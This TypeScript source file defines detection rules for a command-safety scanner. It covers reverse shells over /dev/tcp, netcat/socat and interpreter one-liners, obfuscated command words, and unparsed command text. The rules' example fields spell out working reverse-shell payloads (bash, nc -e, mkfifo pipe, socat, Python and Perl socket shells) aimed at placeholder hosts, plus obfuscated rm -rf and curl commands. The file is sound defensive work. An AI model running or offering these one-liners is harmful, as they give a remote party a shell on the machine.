/** network/reverse-shell and shell-obfuscation rules (docs/rules.md "Rule origins"), and
 * `unparsed-command`, the marker for command text the analysis could not parse. */
import type { Rule } from '../rule.js';
import type { ShellCommand } from '../shell/model.js';
import { interpreterCode } from './remote.js';
import { SHELLS } from '../shell/context.js';
import { anyStage } from './pipeline.js';

const DEV_NET = /^\/dev\/(?:tcp|udp)\/[^/]+\/\d+$/;
const NETCATS = new Set(['nc', 'ncat', 'netcat', 'nc.traditional', 'nc.openbsd', 'telnet']);

function isShellWithoutScript(s: ShellCommand): boolean {
  return SHELLS.has(s.name) && !s.argv.slice(1).some((a) => /^-[a-zA-Z]*c/.test(a));
}

/** gawk's network special files (`/inet/tcp/LPORT/HOST/RPORT`) used to run what arrives:
 * a program that opens one and reads commands with `getline` or runs `system()`. */
function awkNetShell(c: ShellCommand): boolean {
  if (!/^(?:g|m|n)?awk$/.test(c.name)) return false;
  const program = c.argv.slice(1).join(' ');
  return /\/inet[46]?\/(?:tcp|udp)\//.test(program) && /\bgetline\b|\bsystem\s*\(/.test(program);
}

/** zsh `ztcp HOST PORT` (or `ztcp -l`) with a shell in the line whose fds are redirected to the
 * connection (`zsh >&$REPLY 2>&$REPLY 0>&$REPLY`). */
function ztcpShell(c: ShellCommand, commands: readonly ShellCommand[]): boolean {
  if (c.name !== 'ztcp' || c.argv.length < 2) return false;
  return commands.some((o) => SHELLS.has(o.name) && o.redirects.some((r) => /^\d*[<>]&$/.test(r.op) && /^\$\{?REPLY\}?$|^\d{2,}$|^[3-9]$/.test(r.target)));
}

function netRedirect(c: ShellCommand): boolean {
  return c.redirects.some((r) => DEV_NET.test(r.target));
}

export const NETWORK_RULES: Rule[] = [
  {
    id: 'reverse-shell-dev-tcp',
    name: 'Reverse shell over /dev/tcp',
    category: 'network/reverse-shell',
    action: 'block',
    attack: 'T1059.004',
    description: 'An interactive shell wired to /dev/tcp or /dev/udp, gawk /inet/tcp running what arrives, or zsh ztcp feeding a shell.',
    help: 'Hands a remote party a shell on this machine.',
    examples: {
      match: ['bash -i >& /dev/tcp/10.0.0.1/4444 0>&1', "sh -c 'exec 5<>/dev/tcp/x.example/443; cat <&5 | sh >&5 2>&5'"],
      not_match: ["timeout 1 bash -c '</dev/tcp/db.internal/5432' && echo open", 'echo > /dev/tcp/127.0.0.1/6379'],
    },
    match: {
      command: (c, line) => {
        if (SHELLS.has(c.name) && netRedirect(c)) return true;
        if (awkNetShell(c) || ztcpShell(c, line.commands)) return true;
        // `exec N<>/dev/tcp/…` opens a socket both ways; a shell in the same line reading it runs remote input.
        if (c.name === 'exec' && c.redirects.some((r) => r.op.endsWith('<>') && DEV_NET.test(r.target))) {
          return line.commands.some((o) => SHELLS.has(o.name) && o !== c && (o.redirects.some((r) => /^\d*[<>]&$/.test(r.op) && /^\d+$/.test(r.target)) || o.pipeline !== null));
        }
        return false;
      },
      raw: /\b(?:ba|z|k)?sh\s+-i\b[^;\n]*\/dev\/(?:tcp|udp)\/|\bexec\s+\d+<>\/dev\/(?:tcp|udp)\//,
    },
  },
  {
    id: 'reverse-shell-netcat',
    name: 'Reverse shell with netcat or socat',
    category: 'network/reverse-shell',
    action: 'block',
    attack: 'T1059.004',
    description: 'nc/ncat/netcat -e/-c/--exec/--sh-exec; a pipeline joining a shell and nc, telnet or openssl s_client (relay); socat … exec:/system: a shell.',
    help: 'Hands a remote party a shell on this machine.',
    examples: {
      match: ['nc -e /bin/sh 10.0.0.1 4444', 'rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 10.0.0.1 4444 > /tmp/f', "socat tcp:x.example:4444 exec:'bash -li',pty,stderr"],
      not_match: ['nc -zv db.internal 5432', 'echo PING | nc -q1 localhost 6379'],
    },
    match: {
      command: (c) => {
        if (NETCATS.has(c.name)) {
          const args = c.argv.slice(1);
          if (args.some((a) => /^-[a-zA-Z]*[ec]$|^--(?:exec|sh-exec|lua-exec)(?:=|$)/.test(a))) return true;
          return c.pipeline !== null && anyStage(c.pipeline, isShellWithoutScript);
        }
        // openssl s_client … | sh | openssl s_client …: the TLS relay of the mkfifo reverse shell
        if (c.name === 'openssl' && c.argv[1] === 's_client') return c.pipeline !== null && anyStage(c.pipeline, isShellWithoutScript);
        if (c.name === 'socat') return c.argv.slice(1).some((a) => /^(?:exec|system):.*\b(?:ba|z|k|da)?sh\b/i.test(a));
        return false;
      },
      raw: /\b(?:nc|ncat|netcat)\s+(?:-\w+\s+)*-\w*[ec]\s+\S*sh\b|\|\s*\S*\bsh\s+-i\b[^|;\n]*\|\s*(?:nc|ncat|netcat)\b|\bsocat\b[^;\n]*\b(?:exec|system):[^;\n]*sh\b/,
    },
  },
  {
    id: 'reverse-shell-interpreter',
    name: 'Reverse shell in an interpreter one-liner',
    category: 'network/reverse-shell',
    action: 'block',
    attack: 'T1059',
    description: 'A python/perl/ruby/php/node/lua one-liner that connects a socket (or listens and accepts one: a bind shell) and spawns a shell or runs what it receives.',
    help: 'Hands a remote party a shell on this machine.',
    examples: {
      match: [
        `python3 -c 'import socket,os,pty;s=socket.socket();s.connect(("10.0.0.1",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("/bin/sh")'`,
        `perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));connect(S,sockaddr_in(4444,inet_aton("10.0.0.1")));open(STDIN,">&S");open(STDOUT,">&S");exec("/bin/sh -i");'`,
      ],
      not_match: [`python3 -c 'import socket;print(socket.gethostname())'`, 'python3 -m http.server 8000'],
    },
    match: {
      command: (c) => {
        const code = interpreterCode(c);
        if (code === null) return false;
        const connects = /[.:]connect\s*\(|\bconnect\s*\(\s*\w+\s*,|TCPSocket|fsockopen|net\.(?:connect|createConnection|Socket)|socket\.create_connection|socket\.tcp\s*\(|\bIO::Socket|stream_socket_client|Sockets\.TCPClient|\bTCPClient\s*\(|\bsocket\s+[\w.$-]+\s+\d+|\bconnect\s*\(\s*["'][\w.-]+["']\s*,/.test(code) || c.code?.connects === true;
        const spawns = /\/bin\/(?:ba|z)?sh|pty\.spawn|\bdup2\s*\(|child_process|subprocess|\bexec\s*\(|proc_open|\bspawn\s*\(|\bpopen\b|os\.execute|\bsystem\s*\(|shell_exec|passthru|`\$|\bexec\s+["']|\bsystem\b|\biex\b|Invoke-Expression|\brun\s*\(|ProcessBuilder|\bexec\s+\$/.test(code);
        // a bind shell: the code listens, accepts a connection and runs what arrives (or a shell on it)
        const serves = /[.:]bind\s*\(|\bsocket_bind\s*\(|\bTCPServer\.new\b|\bnet\.createServer\b|\bstream_socket_server\s*\(|\bLocalPort\s*=>|\bListen\s*=>/.test(code) && /\baccept\s*\(|:accept\s*\(|\bsocket_accept\b|\.on\s*\(\s*["']connection["']|\bstream_socket_accept\b/.test(code);
        return (connects || serves) && spawns;
      },
    },
  },
];

/** obfuscation rules on the text itself (docs/rules.md "Rule origins") and the unparsed-command
 * fallback. */
export const OBFUSCATION_RULES: Rule[] = [
  {
    id: 'shell-obfuscation',
    name: 'Obfuscated command word',
    category: 'obfuscation',
    action: 'record',
    attack: 'T1027',
    description: 'A command built by quote-splitting or escapes, $IFS, ANSI-C $\'\\x..\', a variable as the command, or ${x@P}. The normalised command is checked by every other rule too.',
    help: 'Written to slip past pattern matching; read the normalised command in the excerpt.',
    examples: {
      match: ['rm${IFS}-rf${IFS}/tmp/x', "$'\\x63\\x75\\x72\\x6c' -s https://x.example/p", "r''m -rf /tmp/x", 'c\\url https://x.example', 'X=rm; $X -rf /tmp/x', 'echo ${x@P}'],
      not_match: ['IFS=, read -r a b <<< "1,2"', "echo 'don''t panic'", '\\ls -la', '"$EDITOR" file.txt'],
    },
    match: {
      command: (c) => {
        const w = c.words[0];
        if (!w) return false;
        if (c.words.some((x) => x.ifs || x.prompt)) return true;
        // a command word that reads as a program name (`r''m` → rm); quote-split prose or code
        // fed to a line-oriented tool (`"""Usage:`, `'Rows',`) is not one
        if (!/^[A-Za-z0-9_.\/+-]{2,}$/.test(w.text) && !w.fromVariable) return false;
        return w.split || w.escaped || w.ansiC || w.fromVariable;
      },
    },
  },
  {
    id: 'unparsed-command',
    name: 'Command text not parsed',
    category: 'obfuscation',
    action: 'record',
    attack: 'T1027',
    description: 'Part of the command was not analysed as shell: a piece too long or too pipe-heavy to parse even after splitting, nesting deeper than the analysis follows, or a parser failure. Those parts were checked by the raw-text fallback only.',
    help: 'Shell-aware rules did not see all of this command; hostile padding or nesting is a way to hide one. Read the command; the excerpt shows the start of the unparsed part.',
    examples: {
      match: ['('.repeat(1001) + 'ls' + ')'.repeat(1001)],
      not_match: ['(cd /tmp && ls)', `${'a|'.repeat(200)}a`],
    },
    match: {
      line: (line) => line.unparsed[0] ?? null,
    },
  },
];

